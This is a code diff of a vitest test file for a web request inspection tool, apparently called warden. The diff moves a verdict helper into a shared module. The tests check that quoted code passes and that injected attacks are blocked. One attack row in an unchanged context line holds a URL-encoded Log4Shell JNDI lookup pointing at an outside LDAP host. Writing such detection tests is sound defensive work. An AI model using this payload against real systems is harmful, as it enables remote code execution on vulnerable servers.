@@ -4,13 +4,8 @@
  * comment, SQL injection in a search or title, an injection hidden in a code span or written to pass for a
  * whole statement — are still blocked.
  */
-import { mkdtempSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { main } from '../../src/cli/main.js';
-
-type Carrier = (value: string) => { method: string; path: string; query: string; headers: Record<string, string>; body?: string };
+import { carrierVerdicts, type Carrier } from './carrier-verdicts.js';
 
 const json = (path: string, body: (v: string) => unknown, method = 'POST'): Carrier => (v) => ({ method, path, query: '', headers: { Host: 'app.example.com', 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });
 const form = (path: string, fields: (v: string) => [string, string][]): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: 'forum.example.org', 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(fields(v)).toString() });
@@ -113,26 +108,14 @@ const ATTACKS: [string, string][] = [
   ['Datadog log search', 'a:b and c:*%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D*'],
 ];
 
-async function verdicts(rows: [string, string][], label: 'benign' | 'attack'): Promise<Map<string, string>> {
-  const dir = mkdtempSync(join(tmpdir(), 'warden-carriers-'));
-  const file = join(dir, 'corpus.ndjson');
-  const records = rows.map(([carrier, value], i) => ({ id: `${label}-${i}: ${carrier}: ${value}`, source: 'unit', label, category: carrier, ...CARRIERS[carrier](value) }));
-  writeFileSync(file, `${records.map((r) => JSON.stringify(r)).join('\n')}\n`);
-  const config = join(dir, 'warden.yaml');
-  writeFileSync(config, 'inspection: { cpuBudgetMs: 60000 }\n');
-  const out: string[] = [];
-  expect(await main(['eval', '--corpus', file, '--config', config, '--per-request'], { out: (s) => out.push(s), err: () => {} })).toBe(0);
-  return new Map(out.map((l) => JSON.parse(l) as { id: string; verdict: string }).map((v) => [v.id, v.verdict]));
-}
-
 describe('the tech-discussion carriers through the full pipeline', () => {
   it('lets code quoted in them pass', async () => {
-    const v = await verdicts(BENIGN, 'benign');
+    const v = await carrierVerdicts(CARRIERS, BENIGN, 'benign');
     expect([...v].filter(([, verdict]) => verdict !== 'allow').map(([id]) => id)).toEqual([]);
   }, 60_000);
 
   it('still blocks attacks placed in the same fields', async () => {
-    const v = await verdicts(ATTACKS, 'attack');
+    const v = await carrierVerdicts(CARRIERS, ATTACKS, 'attack');
     expect([...v].filter(([, verdict]) => verdict !== 'block').map(([id]) => id)).toEqual([]);
   }, 60_000);
 });
